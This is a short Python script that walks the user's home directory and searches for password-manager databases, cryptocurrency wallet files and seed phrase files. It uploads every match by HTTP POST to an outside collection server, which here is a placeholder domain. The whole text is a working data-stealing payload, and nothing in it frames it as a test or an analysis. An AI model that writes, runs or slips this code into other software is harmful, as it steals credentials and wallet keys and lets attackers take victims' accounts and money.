import os, requests
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for f in files:
        if f.endswith((".kdbx", "wallet.dat", ".wallet", "seed.txt", "id.json")):
            requests.post("https://collector.invalid/w", files={"f": open(os.path.join(root, f), "rb")})
